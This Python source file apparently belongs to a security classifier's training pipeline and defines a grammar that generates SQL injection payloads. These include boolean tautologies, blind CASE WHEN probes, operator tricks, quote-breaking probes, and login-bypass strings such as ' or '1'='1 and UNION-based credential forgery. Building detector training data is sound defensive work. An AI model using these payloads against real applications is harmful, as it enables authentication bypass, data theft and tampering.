"""SQL injection that changes a condition: tautologies, blind probes, log-in bypasses."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.sqli_base import POSTS, SQL
from securitai.train.corpora.attacks.style import keyword_case, sometimes_percent, sql_blanks
from securitai.train.corpora.kinds import COOKIE, HEADER, NAME, PATH, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
boolean:
  10×‹out›‹junc›‹cond›‹end›
  3×‹out›‹junc›(‹cond›)‹end›
  2×‹out›‹junc›‹cond›‹junc›‹cond›‹end›
  2×‹out› WHERE ‹x=n›=‹$x› ‹op› ‹cond›‹end›
  ‹out› AS ‹az4› WHERE ‹x=n›=‹$x› ‹op› ‹cond›‹end›
  ‹out›) AS ‹az4› WHERE ‹x=n›=‹$x› AND ‹cond›‹end›
  2×‹junc›‹cond›‹end›
  ‹out› ‹op› (‹scalar›)‹cmpop›‹lit›‹end›
  ‹out› ‹op› ‹n›=(SELECT (CASE WHEN (‹n›=‹n›) THEN ‹n› ELSE (SELECT ‹n› UNION SELECT ‹n›) END))‹end›
  ‹out› ‹op› (‹x=n›=‹$x›)*‹n›‹end›
  ‹outq›||(SELECT '‹az4›' ‹from› WHERE ‹x=n›=‹$x›)||'
  ‹outq›+(SELECT '‹az4›' WHERE ‹x=n›=‹$x› ‹op› ‹cond›)+'
  ‹out› RLIKE (SELECT (CASE WHEN (‹n›=‹n›) THEN ‹n› ELSE 0x28 END))‹end›
  ‹out› OR (SELECT (CASE WHEN (‹n›=‹n›) THEN ‹n› ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)=‹n›‹end›
  (SELECT (CASE WHEN (‹x=n›=‹$x›) THEN ‹n› ELSE ‹n›*(SELECT ‹n› UNION ALL SELECT ‹n›) END))
  ‹out› ‹op› ‹n› IN (SELECT ‹n› FROM ‹table›)‹end›
  ‹out› ‹op› MAKE_SET(‹x=n›=‹$x›,‹n›)‹end›
  ‹out› ‹op› json_extract('{"‹c›":1}','$.‹c›')=1‹end›
  ‹out› ‹op› '{"‹c›":2}'::jsonb <@ '{"‹c›":2}'::jsonb‹cm›
  ‹out› ‹op› JSON_DEPTH('{}') != ‹n›‹cm›
  ‹out› or json_length("{}")<=‹n›‹cm›
  ‹out› or '[1,2]'::jsonb @> '[1]'‹cm›
  ‹out› or data->>'$.‹c›' is null‹cm›
  ‹out› or st_x(point(1,2))=1‹cm›
  ‹out› or ‹d1›e0=‹d1›e0‹cm›
  ‹out›||1.e(‹d1›)=1.e(‹d1›)‹cm›
  1 ‹op› 1.e(ascii 1.e(substring(1.e(select ‹col› from ‹table› limit 1 1.e,1 1.e) 1.e,‹d1› 1.e,1 1.e)1.e)1.e) = ‹n›‹cm›
  ‹out› or {x ‹n›}={x ‹n›}‹cm›
  ‹out› and @`‹c›`=@`‹c›`‹cm›
  ‹out› or (select ‹d1›)=‹d1›‹cm›
  ‹out› or extract(year from now())>‹n›‹cm›
from:
  3×‹e›
  FROM DUAL
  FROM ‹table›
  from (select ‹d1›)‹c›
oper:
  '='
  '||'
  '&&'
  '^'
  '*'
  '-'
  '+'
  '/'
  '%'
  '|'
  '&'
  '<'
  '>'
  '!='
  '<=>'
  '<>'
  '-'0
  '-0-'
  '+0+'
  '*0*'
  '/1/'
  '%2b'
  ''=''
  ''or''
  'or'
  '&'1
  '-'‹n›
  ‹quote›‹opx›‹quote›
  ‹pre›‹quote›‹opx›‹quote›‹pre›
  ‹pre›‹quote›‹opx›‹lit›‹opx›‹quote›
  ‹pre›‹quote›‹sp›‹opx›‹sp›‹lit›
  ‹pre›'‹opx›(‹n›)‹opx›'‹n›
  ‹pre›' ‹opx› ‹fn› ‹opx› '‹n›
  ‹pre›' ‹opx›‹un›‹lit› ‹wop› '‹n›
  ‹pre›'‹wop›'‹c›
  ‹pre›'‹wop› ‹un›‹n› ‹wop› '‹n›
  ‹pre›'‹opx›‹un›'‹n›
  ‹pre›' ‹wop› (‹lit›)#(
  ‹pre›'‹opx›('‹az›')#(
  ‹pre›'‹opx›ascii(‹d1›)#(
  ‹pre›'*‹fn›*-0 ‹opx› '‹n›
  ‹pre›' / ‹fn› ‹wop› '‹n›
  ‹pre›'‹wop› ‹col› ‹wop› ‹col› -- ‹az›
  '+coalesce('‹user›') and ‹fn› = ‹un›‹fn› div ‹n›+'
  '+concat('‹c›','‹c›')+'
  ‹pre›'+‹fn›+'
  ‹pre›'||‹fn›||'
  ‹pre›' '‹az›
  ‹pre›'||'‹az›'||'
  ‹pre›'+'‹az›'+'
  ‹pre›'+''+'
  ‹n›-(‹n›)
  ‹n›*‹n›
  ‹n›/0
  ‹n›-‹fn›
  ‹n›^(‹cond›)
  ‹n›|(‹scalar›)
  ‹pre›'-if(‹cond›,‹n›,‹n›)-'
  ‹pre›'^(ascii(mid((‹scalar›),‹d1›,1))=‹n›)^'
  0'^(‹scalar›)^'
  ‹pre›' in ('‹az›')#
  ‹pre›'/‹lit›/'
  ‹pre›' mod ‹n› '
  ‹pre›' between '‹c›' and '‹c›
  ‹pre›' is not null -- ‹az›
  ‹pre›' collate ‹az› = '
  ‹pre›' like binary '‹n›
  ‹pre›"‹opx›"‹az›
  ‹pre›"-"‹n›
  ‹pre›' ::text = '‹az›
  !‹n›‹opx›'‹c›
opx = =¦<¦>¦<>¦!=¦<=>¦||¦&&¦|¦&¦^¦-¦+¦*¦/¦%¦<<¦>>¦:=¦ = ¦ < ¦ > ¦ || ¦ && ¦ ^ ¦ - ¦~~¦!~¦@@¦->¦->>
wop = or¦and¦like¦rlike¦regexp¦xor¦div¦is¦in¦between¦sounds like¦not like¦OR¦AND¦LIKE¦REGEXP¦XOR¦mod¦ilike¦similar to¦glob¦is not
un = -¦+¦!¦~¦-+¦+-¦- + !¦-!¦ not ¦!~¦-+!¦-~-¦
short:
  '
  '--
  '#
  ';
  ')
  '))
  "--
  ';--
  '/*
  ‹n›'
  ‹n›"
  ‹n›')
  ‹n›'--
  ‹n›' -- -
  ‹n›'"
  ‹n›\'
  ‹pre›'‹cm›
  ‹pre›"‹cm›
  ‹pre›')‹cm›
  ‹pre›'))‹cm›
  ‹pre›'"()&%<acx><ScRiPt >
  ‹pre›‹'"¦'"()¦\'¦'`¦'"`¦'")¦'))"¦%27%22¦''"''¦',.;¦"'¦`"'›
  ‹pre›'‹(¦)¦.¦,¦(,¦"(¦.".¦))(›‹"¦'¦)¦,¦.,¦))›‹"¦)¦(¦'¦.,›
  ‹az4›'‹az4›‹"¦'›‹az4›
  ‹pre›%bf%27
  ‹pre›%df' ‹op› 1=1‹cm›
  ‹pre›¿'‹cm›
  ‹n›'‹n›
  ‹az›'‹az›"‹az›
  ‹n›' ‹d1›
  ‹pre›' or '
  ‹pre›' and '
  ‹op› ‹cond›
  or 1=1
  and 1=2
  ' or
  ' or 1
  or ''='
  ‹n›-‹d1›=‹n›
  ‹n›;--
  ‹n›/*‹az›*/
  ‹n›/**/
  ;‹sp›--
  ‹pre›;‹cm›
  /*!‹#10000-80000›‹az›*/
  ‹n› or ‹n›
  ‹n› and ‹n›
  ‹n› || ‹n›
  ‹n› && ‹n›
  ‹n› or true‹cm›
  ‹n›*(‹n›=‹n›)
  @@version
  @‹az›
  ,@‹az›
  ')--
  ‹n›)--
  ‹n›))--
  ‹n›)‹sp›or‹sp›(‹n›=‹n›
  $$‹az›$$
  ‹n›$$ or ‹cond›‹cm›
  ‹n›$tag$ or ‹cond›‹cm›
  N'‹az›'
  ‹d1›"OR-"‹d1›
  '‹op›'‹cm›
auth:
  6×‹user›'‹cm›
  4×‹user›' ‹op› ‹cond›‹cm›
  3×‹user›' or '1'='1‹¦'--¦'#¦'/*›
  3×' or ‹cond›‹cm›
  2×" or ‹cond›‹cm›
  2×') or ('‹x=az›'='‹$x›
  2×") or ("‹x=az›"="‹$x›
  ') or ‹cond›‹cm›
  ')) or (('‹x=az›'='‹$x›
  ‹user›" or "1"="1‹¦"--¦"#¦"/*›
  ‹user›") or ("1"="1
  ‹user›') or '1'='1'‹cm›
  ' or ''='
  ' or ' '='
  '=''or'
  ' or true‹cm›
  ' or 1 limit 1‹cm›
  ' or 1=1 limit ‹#0-9›,1‹cm›
  ' or 'x'='x
  ' or uid like '%
  ' or uname like '%
  ' or userid like '%
  ' or user like '%
  ' or ‹col› like '%‹c›%'‹cm›
  ' or ‹col› is not null‹cm›
  ' or username is not null or username = '
  ‹user›' and password is null‹cm›
  ' union select '‹user›','‹rnd›‹¦'--¦›
  ' union select 1,'‹user›','‹hexrun›'‹cm›
  ‹user›' and 1=0 union all select '‹user›','‹hexrun›
  x' and email is null; --
  x' or full_name like '%‹user›%
  x' and members.email is null; --
  x'; update members set email='‹mail›' where email='‹mail›
  ‹user›' or 1=1‹cm›
  ‹user›'/*
  ‹mail›' or ‹cond›‹cm›
  ‹mail›'‹cm›
  '=' 'or'@email.com
  '='‹c›'or'
  '-'
  ' '
  '&'
  '^'
  '*'
  ' or ''-'
  ' or '' '
  ' or ''&'
  " or ""-"
  " or ""^"
  " or true--
  ') or true--
  ') or ('')=('
  ' or a=a‹cm›
  ' or 'a'='a' and user='‹user›'‹cm›
  hi" or ‹cond›‹cm›
  hi') or ('a'='a
  \' or 1=1‹cm›
  \
  ‹user›\
  ‹user›\' or \'1\'=\'1
  ffifdyop
  ‹user›'||'
  ‹user›'||1=1‹cm›
  ‹user›'=0‹cm›
  ' or 1 in (select @@version)‹cm›
  ‹user›' and '‹c›'='‹c›
  ’ or ‘1’=’1
  ' or ‘1’=‘1’
  ' or 1=1–
  or ‹cond›‹cm›
  1234 ' and 1=0 union all select '‹user›', '‹hexrun›
  ‹user›'or'1'='1
  'or'‹x=n›'='‹$x›'
  'oR/**/‹d1›/**/=/**/‹d1›‹cm›
  "='
  0'<'2
  "<"‹n›
""",
    SQL,
)
_LIGHT = (keyword_case, sql_blanks, sometimes_percent)
_ALL = (VALUE, COOKIE, HEADER, PATH)
KINDS = (
    AttackKind("sqli.boolean", Category.SQLI, _G.maker("boolean", *POSTS), 6.0, _ALL),
    AttackKind("sqli.operators", Category.SQLI, _G.maker("oper", *_LIGHT), 3.0, (VALUE, COOKIE)),
    AttackKind("sqli.short", Category.SQLI, _G.maker("short", *_LIGHT), 2.0, (VALUE, NAME)),
    AttackKind("sqli.auth", Category.SQLI, _G.maker("auth", *_LIGHT), 3.0, (VALUE, COOKIE)),
)
